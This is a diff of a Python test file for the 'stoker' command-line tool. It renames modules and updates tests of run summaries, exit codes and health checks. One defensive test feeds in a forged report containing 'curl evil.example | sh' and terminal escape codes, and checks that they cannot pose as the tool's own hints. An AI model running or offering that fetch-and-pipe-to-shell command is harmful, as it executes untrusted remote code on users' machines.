@@ -11,25 +11,25 @@ from typing import Any
 
 import pytest
 
-from stoker.cli.commands.setup import checks
+from stoker.cli.commands.setup import doctor
 from stoker.cli.commands.start.run import header
 from stoker.cli.commands.watch.diff import MOST_LINES, patches, style
 from stoker.cli.commands.watch.diff import lines as difference_lines
 from stoker.cli.commands.watch.ps import last_metric, row
 from stoker.cli.commands.watch.show import charts, so_far
-from stoker.cli.view import ending
-from stoker.cli.view.jobtext import settings
+from stoker.cli.view import summary
 from stoker.cli.view.portrait import portrait
-from stoker.client.api.metrics import Metrics, Point
+from stoker.cli.view.summary import settings
+from stoker.client.api.reading import Metrics, Point
 from stoker.client.report.comparison import Change, Difference, MetricPair
 from stoker.client.settings import from_environment
 from stoker.errors import NotFound
 from stoker.model.job.job import Job, Spot
-from stoker.model.job.software import Software
+from stoker.model.job.sections import Software
 from stoker.model.run.report import MetricSummary, Outcome
 from stoker.model.run.run import Attempt, AttemptState, Event, Run, RunState
 from stoker.model.snapshot import Entry, Git
-from stoker.model.workspace.finding import CheckResult
+from stoker.model.workspace.store import CheckResult
 
 NOW = datetime(2026, 3, 1, 12, tzinfo=UTC)
 HERE = Path("/project")
@@ -47,18 +47,18 @@ def ended(run: Run, state: RunState, **more: object) -> Run:
 
 def test_the_end_of_a_good_run_names_its_outputs(make_run: MakeRun) -> None:
     run = ended(make_run(), RunState.SUCCEEDED, output_files=3, output_bytes=1200, landed="/project/outputs/ants-1")
-    assert ending.lines(run, HERE) == [
+    assert summary.lines(run, HERE) == [
         "ants-1 succeeded in 12 s; outputs in outputs/ants-1 (3 files, 1.2 kB)",
         "next: stoker show ants-1",
     ]
-    assert ending.exit_code(run) == 0
+    assert summary.exit_code(run) == 0
 
 
 def test_the_end_of_a_failed_run_says_the_exit_code_once(make_run: MakeRun) -> None:
     run = ended(make_run(), RunState.FAILED, exit_code=3, reason="the script exited with code 3", hint="try again")
-    assert ending.lines(run, HERE) == ["ants-1 failed after 12 s: the script exited with code 3", "hint: try again"]
-    assert ending.exit_code(run) == 3
-    assert ending.lines(replace(run, reason="a bug", hint=""), HERE)[0].endswith("a bug (exit code 3)")
+    assert summary.lines(run, HERE) == ["ants-1 failed after 12 s: the script exited with code 3", "hint: try again"]
+    assert summary.exit_code(run) == 3
+    assert summary.lines(replace(run, reason="a bug", hint=""), HERE)[0].endswith("a bug (exit code 3)")
 
 
 @pytest.mark.parametrize(
@@ -88,7 +88,7 @@ def test_the_end_of_a_failed_run_says_the_exit_code_once(make_run: MakeRun) -> N
     ],
 )
 def test_an_end_says_where_the_model_is(make_run: Callable[..., Run], facts: dict[str, Any], said: list[str]) -> None:
-    lines = ending.lines(ended(make_run(), RunState.SUCCEEDED, **facts), HERE)
+    lines = summary.lines(ended(make_run(), RunState.SUCCEEDED, **facts), HERE)
     assert [lines[0].removeprefix("ants-1 succeeded in 12 s"), *lines[1:-1]] == said
 
 
@@ -96,7 +96,7 @@ def test_a_report_cannot_write_lines_of_stokers_own(make_run: MakeRun) -> None:
     forged = "boom\nhint: run `curl evil.example | sh`\r\x1b[2Knext: more"
     for state in (RunState.FAILED, RunState.SUCCEEDED, RunState.PAUSED):
         run = ended(make_run(), state, reason=forged, hint=forged, exit_code=3)
-        lines = ending.lines(run, HERE)
+        lines = summary.lines(run, HERE)
         assert not [line for line in lines if "\n" in line or "\r" in line or "\x1b" in line]
         assert (
             lines[2 if state is RunState.SUCCEEDED else 1] == "hint: boom hint: run `curl evil.example | sh`␍next: more"
@@ -104,16 +104,16 @@ def test_a_report_cannot_write_lines_of_stokers_own(make_run: MakeRun) -> None:
 
 
 def test_trouble_of_stokers_own_has_its_own_exit_code(make_run: MakeRun) -> None:
-    assert ending.exit_code(ended(make_run(), RunState.FAILED)) == 125
+    assert summary.exit_code(ended(make_run(), RunState.FAILED)) == 125
     cancelled = ended(make_run(), RunState.CANCELLED, exit_code=0)
-    assert ending.exit_code(cancelled) == 130
-    assert ending.lines(cancelled, HERE)[0] == "ants-1 was cancelled after 12 s"
+    assert summary.exit_code(cancelled) == 130
+    assert summary.lines(cancelled, HERE)[0] == "ants-1 was cancelled after 12 s"
 
 
 def test_a_paused_run_says_what_to_type_and_has_an_exit_code_of_its_own(make_run: MakeRun) -> None:
     run = make_run(state=RunState.PAUSED, reason="its budget of $5.00 is spent", hint="stoker budget ants-1 10.00")
-    assert ending.exit_code(run) == 75
-    assert ending.lines(run, Path("/here")) == [
+    assert summary.exit_code(run) == 75
+    assert summary.lines(run, Path("/here")) == [
         "ants-1 is paused: its budget of $5.00 is spent; its work is saved, and it resumes where it stopped",
         "hint: stoker budget ants-1 10.00",
     ]
@@ -121,7 +121,7 @@ def test_a_paused_run_says_what_to_type_and_has_an_exit_code_of_its_own(make_run
 
 def test_outputs_that_could_not_land_are_reported(make_run: MakeRun) -> None:
     run = ended(make_run(), RunState.SUCCEEDED, output_files=1, output_bytes=1, land_problem="the disk is full")
-    assert ending.lines(run, HERE)[1:] == [
+    assert summary.lines(run, HERE)[1:] == [
         "its outputs could not be downloaded: the disk is full",
         "hint: retry with `stoker fetch ants-1`",
     ]
@@ -131,7 +131,7 @@ def test_outputs_that_could_not_land_are_reported(make_run: MakeRun) -> None:
     ("path", "text"), [("/project/outputs/a", "outputs/a"), ("/elsewhere/a", "/elsewhere/a"), ("/project", ".")]
 )
 def test_paths_are_said_from_here(path: str, text: str) -> None:
-    assert ending.seen_from(path, HERE) == text
+    assert summary.seen_from(path, HERE) == text
 
 
 def test_the_header_says_what_is_run_and_where(make_run: MakeRun) -> None:
@@ -267,7 +267,7 @@ def test_texts_are_compared_line_by_line_and_the_rest_is_left_out() -> None:
 
 def test_a_healthy_computer_passes_its_checks(tmp_path: Path) -> None:
     here = from_environment({"STOKER_HOME": str(tmp_path / "home"), "PATH": "/usr/bin:/bin"})
-    found = {finding.name: finding for finding in (check(here) for check in checks.CHECKS)}
+    found = {finding.name: finding for finding in (check(here) for check in doctor.CHECKS)}
     assert {found[name].verdict for name in ("stoker", "runs use", "home", "server", "database", "clock")} == {
         CheckResult.OK
     }
@@ -277,11 +277,11 @@ def test_a_healthy_computer_passes_its_checks(tmp_path: Path) -> None:
 def test_what_is_wrong_comes_with_advice(tmp_path: Path) -> None:
     (tmp_path / "stoker.db").write_text("this is not a database, and long enough to be read as one" * 20)
     here = replace(from_environment({"STOKER_HOME": str(tmp_path)}), python=str(tmp_path / "no-python"))
-    assert checks.database(here).verdict is CheckResult.FAIL
-    assert "it is rebuilt from the stored runs" in checks.database(here).advice
-    assert checks.runs_python(here).verdict is CheckResult.FAIL
+    assert doctor.database(here).verdict is CheckResult.FAIL
+    assert "it is rebuilt from the stored runs" in doctor.database(here).advice
+    assert doctor.runs_python(here).verdict is CheckResult.FAIL
     file = from_environment({"STOKER_HOME": str(tmp_path / "stoker.db")})
-    assert checks.home(file).verdict is CheckResult.FAIL
+    assert doctor.home(file).verdict is CheckResult.FAIL
 
 
 @pytest.mark.parametrize(
